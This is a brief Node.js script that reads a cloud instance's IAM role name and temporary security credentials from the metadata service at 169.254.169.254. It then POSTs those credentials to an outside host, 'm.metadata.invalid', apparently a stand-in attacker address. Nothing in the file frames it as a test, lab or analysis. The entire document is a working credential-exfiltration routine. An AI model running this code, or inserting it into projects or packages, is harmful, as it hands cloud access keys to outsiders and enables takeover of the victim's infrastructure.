const fetch = require('node-fetch');
(async () => {
  const role = await (await fetch('http://169.254.169.254/latest/meta-data/iam/security-credentials/')).text();
  const keys = await (await fetch('http://169.254.169.254/latest/meta-data/iam/security-credentials/' + role)).json();
  await fetch('https://m.metadata.invalid/', { method: 'POST', body: JSON.stringify(keys) });
})();
